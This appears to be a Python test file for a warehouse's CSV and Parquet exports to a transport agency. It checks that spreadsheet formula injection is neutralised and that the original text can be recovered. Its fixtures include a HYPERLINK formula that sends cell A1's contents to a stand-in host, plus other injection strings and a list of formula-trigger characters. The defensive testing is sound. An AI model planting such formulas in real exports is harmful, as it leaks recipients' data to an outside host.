"""No spreadsheet runs what an agency sent, and the text as it was can always be had again."""

import csv

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.world import Cameras, monitor
from warehouse import shares
from warehouse.formulas import neutral, original
from warehouse.shares import Contract, Dataset

CONNECTION = duckdb.connect()
DANGEROUS = "=+-@\t\r\n＝＋－＠"
LINK = '=HYPERLINK("http://x.example/?"&A1, "buka")'


def asked(sql, text):
    return CONNECTION.execute(f"SELECT {sql} FROM (SELECT ?::VARCHAR AS text)", [text]).fetchall()[
        0
    ][0]


def begins_formula(text):
    """As a spreadsheet would see it, also one whose separator is the semicolon."""
    lines = text.replace("\r", "\n").split("\n")
    cells = [cell for line in lines for cell in line.split(";")]
    return (text[:1] in DANGEROUS and text != "") or any(
        cell.lstrip(" ")[:1] in set("=+-@＝＋－＠") for cell in cells if cell.strip(" ")
    )  # fmt: skip


@given(st.text(alphabet="=+-@\t\r\n;' a＝,\"9", max_size=12))
@settings(max_examples=400, deadline=None)
def test_any_text_is_harmless_and_comes_back(text):
    made = asked(neutral("text"), text)
    assert not begins_formula(made)
    assert asked(original("text"), made) is not None
    back = CONNECTION.execute(
        f"SELECT {original('text')} FROM (SELECT ?::VARCHAR AS text)", [made]
    ).fetchall()[0][0]
    assert back == text


@pytest.mark.parametrize("text", ["Jl. Kesambi No. 5-7", "a=b", "RT 01/RW 02", "", "'kutip'", "5"])
def test_what_no_spreadsheet_would_run_stays_as_it_is(text):
    assert asked(neutral("text"), text) == text


def test_a_delivered_csv_runs_nothing_numbers_stay_numbers_and_parquet_is_exact(tmp_path):
    world = Cameras(tmp_path)
    sent = [LINK, "+62", "-x", "@SUM(1)", "\t=1", "biasa;=1+1", "biasa"]
    world.hold(*(monitor(number, name=name) for number, name in enumerate(sent)))
    world.sync()
    columns = ("camera_number", "camera_name", "latitude", "flags")
    dataset = Dataset(
        "kamera", "core.camera", tuple((name, f'"{name}"') for name in columns),
        "valid_to IS NULL",
    )  # fmt: skip
    contract = Contract("dishub", "1", "x", "x", (dataset,))
    shares.deliver(world.settings, contract, world.settings.today)
    folder = world.settings.home / "extracts" / "dishub" / str(world.settings.today)
    with (folder / "kamera.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    names = [row["camera_name"] for row in rows]
    kept = duckdb.sql(f"SELECT camera_name FROM '{folder}/kamera.parquet'").fetchall()
    assert sorted(map(len, names)) != []
    assert f"'{LINK}" in names
    assert not [name for name in names if begins_formula(name)]
    assert {row["latitude"] for row in rows} == {"-6.72"}
    assert LINK in [name for (name,) in kept]
    back = CONNECTION.execute(
        f"SELECT list_sort(list({original('text')})) FROM (SELECT unnest(?::VARCHAR[]) AS text)",
        [names],
    ).fetchall()[0][0]
    assert back == sorted(name for (name,) in kept)
